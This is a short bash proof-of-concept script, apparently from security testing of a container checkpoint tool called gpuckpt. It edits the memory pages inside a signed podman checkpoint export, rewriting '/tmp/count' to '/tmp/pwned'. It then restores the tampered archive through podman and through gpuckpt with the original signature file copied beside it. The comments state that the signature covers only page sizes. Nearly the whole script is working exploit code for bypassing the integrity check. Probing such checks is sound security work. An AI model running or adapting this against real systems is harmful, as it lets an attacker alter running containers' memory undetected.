#!/bin/bash
# attack30d: this node's own signed export, the memory pages edited (same size): the dump signature checks only
# the pages' sizes ("pages are covered by the export signature while they travel"), and podman's own
# restore --import never reads the export signature. The edit: "/tmp/count" -> "/tmp/pwned" in the shell's memory.
set -u
D=/var/tmp/attack30d; P=/usr/lib/gpuckpt/venv/bin/python3; cd $D
$P - <<'PY'
import io, tarfile, zstandard
with open("src.tar.zst", "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
with open("pages.tar.zst", "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name.startswith("checkpoint/pages-"):
            print(m.name, data.count(b"/tmp/count"), "replaced")
            data = data.replace(b"/tmp/count", b"/tmp/pwned")
        tout.addfile(m, io.BytesIO(data) if data is not None else None)
PY
podman rm -f -t 0 attack30d-src >/dev/null 2>&1
timeout 200 podman container restore --import pages.tar.zst 2>&1 | tail -1 | cut -c1-500; echo "restore rc=${PIPESTATUS[0]}"
sleep 2; podman exec attack30d-src sh -c 'ls -la /tmp; cat /tmp/pwned' 2>&1; echo "exec rc=$?"
podman rm -f -t 0 attack30d-src >/dev/null 2>&1
echo "--- the same archive through gpuckpt import (signed by this node, the archive's .sig copied beside it)"
cp src.tar.zst.sig pages.tar.zst.sig
timeout 200 gpuckpt import $D/pages.tar.zst 2>&1 | cut -c1-400; echo "gpuckpt import rc=${PIPESTATUS[0]}"
podman rm -f -t 0 attack30d-src >/dev/null 2>&1; rm -f pages.tar.zst.sig
